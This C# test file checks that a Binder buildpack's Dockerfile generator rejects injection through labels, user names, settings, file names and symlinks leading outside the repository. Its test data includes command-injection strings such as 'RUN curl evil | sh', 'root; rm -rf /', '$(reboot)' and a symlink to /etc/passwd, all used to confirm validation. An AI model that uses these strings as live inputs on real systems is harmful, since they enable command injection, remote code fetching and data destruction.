using Binder.Build.Buildpacks;
using Microsoft.Extensions.Options;

namespace Binder.Build.Tests.Buildpacks;

/// <summary>Nothing from a repository, a request or a setting can add or alter a Dockerfile instruction.</summary>
public sealed class InjectionSafetyTests
{
    [Fact]
    public void Label_values_are_taken_literally()
    {
        using var repo = new TempRepository();
        var request = PlanTests.Request with { RepoUrl = "https://example.org/a\"b\\c$HOME${PATH}`id`'x", Ref = "$(reboot)" };

        var plan = PlanTests.Plan(repo, request: request);

        Assert.Contains("\"repo2docker.repo\"=\"https://example.org/a\\\"b\\\\c\\$HOME\\${PATH}`id`'x\"", plan.Dockerfile, StringComparison.Ordinal);
        Assert.Contains("\"repo2docker.ref\"=\"\\$(reboot)\"", plan.Dockerfile, StringComparison.Ordinal);
        Assert.Equal(request.RepoUrl, plan.Labels["repo2docker.repo"]);
    }

    [Theory]
    [InlineData("https://example.org/x\nRUN curl evil | sh", "0123", "1.0")]
    [InlineData("https://example.org/x", "main\r\nUSER root", "1.0")]
    [InlineData("https://example.org/x", "main", "1.0\u0000")]
    public void Label_values_with_line_breaks_are_refused(string repoUrl, string gitRef, string version)
    {
        using var repo = new TempRepository();

        var error = Assert.Throws<BinderBuildException>(() => PlanTests.Plan(repo, request: new BuildPlanRequest { RepoUrl = repoUrl, Ref = gitRef, Version = version }));

        Assert.Contains("control character", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("root; rm -rf /", 1000)]
    [InlineData("Jovyan", 1000)]
    [InlineData("jovyan\n", 1000)]
    [InlineData("../etc", 1000)]
    [InlineData("", 1000)]
    [InlineData("a-very-long-user-name-that-useradd-refuses", 1000)]
    [InlineData("jovyan", 0)]
    [InlineData("jovyan", -5)]
    public void User_overrides_are_validated(string userName, int userId)
    {
        using var repo = new TempRepository();

        var error = Assert.Throws<BinderBuildException>(() => PlanTests.Plan(repo, request: PlanTests.Request with { UserName = userName, UserId = userId }));

        Assert.Contains(userId < 1 ? "user id" : "user name", error.Message, StringComparison.Ordinal);
    }

    public static TheoryData<string, BuildpackOptions> BadOptions => new()
    {
        { "BaseImage", new BuildpackOptions { BaseImage = "debian\nRUN curl evil | sh" } },
        { "BaseImage", new BuildpackOptions { BaseImage = "debian bookworm" } },
        { "BaseImage", new BuildpackOptions { BaseImage = "" } },
        { "user name", new BuildpackOptions { UserName = "j$(id)" } },
        { "user id", new BuildpackOptions { UserId = 0 } },
        { "RepoDir", new BuildpackOptions { RepoDir = "home/jovyan" } },
        { "RepoDir", new BuildpackOptions { RepoDir = "/home/../etc" } },
        { "RepoDir", new BuildpackOptions { RepoDir = "/home/$USER" } },
        { "PythonIndexUrl", new BuildpackOptions { PythonIndexUrl = "https://pypi.example/simple' && curl evil '" } },
        { "PythonIndexUrl", new BuildpackOptions { PythonIndexUrl = "https://pypi.example/simple\nRUN x" } },
        { "PythonIndexUrl", new BuildpackOptions { PythonIndexUrl = "ftp://pypi.example/simple" } },
        { "PythonIndexUrl", new BuildpackOptions { PythonIndexUrl = "not a url" } },
        { "ExtraPythonIndexUrls", new BuildpackOptions { ExtraPythonIndexUrls = ["https://a.example/ https://b.example/"] } },
        { "CondaChannels", new BuildpackOptions { CondaChannels = ["conda-forge; curl evil"] } },
        { "CondaChannels", new BuildpackOptions { CondaChannels = [] } },
        { "MicromambaUrl", new BuildpackOptions { MicromambaUrl = "https://x.example/`id`" } },
        { "CranMirror", new BuildpackOptions { CranMirror = "https://cran.example/\"); system(\"id" } },
        { "JuliaDownloadUrlTemplate", new BuildpackOptions { JuliaDownloadUrlTemplate = "https://julia.example/{version} x" } },
        { "JuliaVersion", new BuildpackOptions { JuliaVersion = "1.10; id" } },
        { "NixChannelUrl", new BuildpackOptions { NixChannelUrl = "nixpkgs" } },
        { "DefaultPythonVersion", new BuildpackOptions { DefaultPythonVersion = "3" } },
        { "SystemAptPackages", new BuildpackOptions { SystemAptPackages = ["python3 && curl evil"] } },
        { "JupyterAptPackages", new BuildpackOptions { JupyterAptPackages = ["$(id)"] } },
        { "ExtraAptPackages", new BuildpackOptions { ExtraAptPackages = ["-y"] } },
        { "JupyterCondaPackages", new BuildpackOptions { JupyterCondaPackages = ["notebook'; id; '"] } },
        { "JupyterCommand", new BuildpackOptions { JupyterCommand = [] } },
        { "JupyterCommand", new BuildpackOptions { JupyterCommand = ["python3\nRUN id"] } },
        { "AppendixLines", new BuildpackOptions { AppendixLines = ["RUN a\nRUN b"] } },
        { "JuliaVersions", new BuildpackOptions { JuliaVersions = ["1.10"] } },
        { "JuliaVersions", new BuildpackOptions { JuliaVersions = [] } },
        { "JupyterSource", new BuildpackOptions { JupyterSource = (JupyterSource)7 } },
        { "JupyterPipPackages", new BuildpackOptions { JupyterPipPackages = ["notebook; id"] } },
        { "JupyterPipPackages", new BuildpackOptions { JupyterPipPackages = [] } },
        { "JupyterAptPackages", new BuildpackOptions { JupyterSource = JupyterSource.Debian, JupyterAptPackages = [] } },
        { "JupyterCondaPackages", new BuildpackOptions { JupyterCondaPackages = [] } },
        { "RStudioServerUrl", new BuildpackOptions { RStudioServerUrl = "https://x.example/rstudio.deb' ; id '" } },
        { "RStudioServerSha256", new BuildpackOptions { RStudioServerSha256 = "abc" } },
        { "RStudioServerSha256", new BuildpackOptions { RStudioServerSha256 = "'; id; echo '" + new string('0', 50) } },
    };

    [Theory]
    [MemberData(nameof(BadOptions))]
    public void Bad_settings_are_refused_before_anything_is_generated(string named, BuildpackOptions options)
    {
        var error = Assert.Throws<BinderBuildException>(() => BuildpackOptionsValidator.ThrowIfInvalid(options));
        var validation = new BuildpackOptionsValidator().Validate(null, options);

        Assert.Contains(named, error.Message, StringComparison.Ordinal);
        Assert.StartsWith("The buildpack settings are invalid: ", error.Message, StringComparison.Ordinal);
        Assert.True(validation.Failed);
        Assert.DoesNotContain('\n', error.Message);
    }

    [Fact]
    public void The_default_settings_are_valid()
    {
        Assert.Equal(ValidateOptionsResult.Success, new BuildpackOptionsValidator().Validate(null, new BuildpackOptions()));
        Assert.Equal(ValidateOptionsResult.Success, new BuildpackOptionsValidator().Validate(null, new BuildpackOptions
        {
            BaseImage = "binder-base:bookworm",
            PythonIndexUrl = "http://127.0.0.1:3141/simple",
            CondaChannels = ["file:///srv/channel", "https://conda.example/conda-forge", "bioconda"],
            RepoDir = "/srv/repo",
            UserName = "_binder-user",
            JupyterSource = JupyterSource.Debian,
            JupyterPipPackages = [],
            RStudioServerUrl = "",
            RStudioServerSha256 = "",
            JupyterCondaPackages = ["notebook", "jupyterlab>=4,<5"],
        }));
        Assert.Equal(ValidateOptionsResult.Success, new BuildpackOptionsValidator().Validate(null, new BuildpackOptions
        {
            JupyterPipPackages = ["jupyterlab>=4,<5", "notebook==7.*", "jupyter-server[test]~=2.0", "ipykernel"],
        }));
    }

    [Fact]
    public void Index_urls_are_quoted_where_a_shell_sees_them()
    {
        using var repo = new TempRepository().File("runtime.txt", "python-3.10");

        var plan = PlanTests.Plan(repo, new BuildpackOptions { MicromambaUrl = "https://files.example/micromamba?x=1&y=$2", CondaChannels = ["https://c.example/~user/a+b"] });

        Assert.Contains("curl -fsSL --retry 3 'https://files.example/micromamba?x=1&y=$2' -o /usr/local/bin/micromamba", plan.Dockerfile, StringComparison.Ordinal);
        Assert.Contains("-c 'https://c.example/~user/a+b'", plan.Dockerfile, StringComparison.Ordinal);
    }

    [Fact]
    public void A_file_name_never_reaches_the_Dockerfile()
    {
        using var repo = new TempRepository()
            .File("requirements.txt", "numpy")
            .File("x\"]\nRUN evil.txt", "")
            .File("$(id).ipynb", "{}");

        var plan = PlanTests.Plan(repo);

        Assert.DoesNotContain("evil", plan.Dockerfile, StringComparison.Ordinal);
        Assert.DoesNotContain("$(id)", plan.Dockerfile, StringComparison.Ordinal);
    }

    [Fact]
    public void Configuration_files_linked_to_outside_the_repository_are_not_read()
    {
        using var outside = new TempRepository().File("secret.txt", "TOP-SECRET-LINE\n");
        using var repo = new TempRepository();
        File.CreateSymbolicLink(Path.Combine(repo.Root, "apt.txt"), Path.Combine(outside.Root, "secret.txt"));

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.Contains("apt.txt is a symbolic link pointing outside the repository", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("TOP-SECRET", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_configuration_file_reaching_outside_through_a_linked_directory_is_refused_without_its_content()
    {
        // Two hops: apt.txt's own target (b/etc/passwd) looks inside the repository, but b leads to the host's root.
        using var repo = new TempRepository();
        Directory.CreateSymbolicLink(Path.Combine(repo.Root, "b"), "/");
        File.CreateSymbolicLink(Path.Combine(repo.Root, "apt.txt"), "b/etc/passwd");
        var passwd = File.ReadAllText("/etc/passwd");

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.Contains("apt.txt", error.Message, StringComparison.Ordinal);
        Assert.Contains("outside the repository", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("root:", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(passwd.Split('\n')[0], error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("requirements.txt")]
    [InlineData("environment.yml")]
    [InlineData("Dockerfile")]
    [InlineData("binder/runtime.txt")]
    [InlineData("postBuild")]
    public void Any_configuration_file_reaching_outside_through_a_linked_directory_is_refused(string file)
    {
        using var outside = new TempRepository().File("etc/config", "numpy\n");
        using var repo = new TempRepository().File("binder/requirements.txt", "numpy\n");
        if (!file.StartsWith("binder/", StringComparison.Ordinal))
        {
            Directory.Delete(Path.Combine(repo.Root, "binder"), recursive: true);
        }
        Directory.CreateSymbolicLink(Path.Combine(repo.Root, "b"), outside.Root);
        var link = Path.Combine(repo.Root, file);
        File.CreateSymbolicLink(link, Path.GetRelativePath(Path.GetDirectoryName(link)!, Path.Combine(repo.Root, "b/etc/config")));

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.Contains(file + " is a symbolic link pointing outside the repository", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_binder_directory_reaching_outside_through_a_second_link_is_refused()
    {
        using var outside = new TempRepository().File("Dockerfile", "FROM busybox");
        using var repo = new TempRepository();
        Directory.CreateSymbolicLink(Path.Combine(repo.Root, "b"), outside.Root);
        Directory.CreateSymbolicLink(Path.Combine(repo.Root, "binder"), "b/.");

        var error = Assert.Throws<RepositoryLayoutException>(() => new BuildpackDetector(new BuildpackOptions()).Detect(repo.Root));

        Assert.Contains("binder is a symbolic link pointing outside the repository", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_binder_directory_linked_to_outside_the_repository_is_refused()
    {
        using var outside = new TempRepository().File("Dockerfile", "FROM busybox");
        using var repo = new TempRepository();
        Directory.CreateSymbolicLink(Path.Combine(repo.Root, "binder"), outside.Root);

        var error = Assert.Throws<RepositoryLayoutException>(() => new BuildpackDetector(new BuildpackOptions()).Detect(repo.Root));

        Assert.Contains("binder is a symbolic link pointing outside the repository", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Configuration_files_linked_within_the_repository_are_read()
    {
        using var repo = new TempRepository().File("deps/apt-packages.txt", "vim\n");
        File.CreateSymbolicLink(Path.Combine(repo.Root, "apt.txt"), Path.Combine(repo.Root, "deps/apt-packages.txt"));

        Assert.Contains("        vim && \\", PlanTests.Plan(repo).Dockerfile, StringComparison.Ordinal);
    }

    [Fact]
    public void An_oversized_configuration_file_is_refused_with_the_limit()
    {
        using var repo = new TempRepository().File("requirements.txt", new string('a', 1024 * 1024 + 1));

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.Contains("requirements.txt is larger than 1024 KiB", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_configuration_file_that_is_a_link_to_nothing_is_refused_with_a_sentence()
    {
        using var repo = new TempRepository().File("runtime.txt", "python-3.11");
        File.CreateSymbolicLink(Path.Combine(repo.Root, "requirements.txt"), Path.Combine(repo.Root, "gone.txt"));

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.Equal("requirements.txt", error.FilePath);
        Assert.StartsWith("requirements.txt does not exist", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(repo.Root, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_configuration_file_that_is_a_pipe_is_refused_instead_of_blocking_the_plan()
    {
        using var repo = new TempRepository();
        using (var mkfifo = System.Diagnostics.Process.Start("mkfifo", [Path.Combine(repo.Root, "apt.txt")]))
        {
            mkfifo.WaitForExit();
            Assert.Equal(0, mkfifo.ExitCode);
        }

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.Equal("apt.txt", error.FilePath);
        Assert.Contains("not a regular file", error.Message, StringComparison.Ordinal);
    }
}
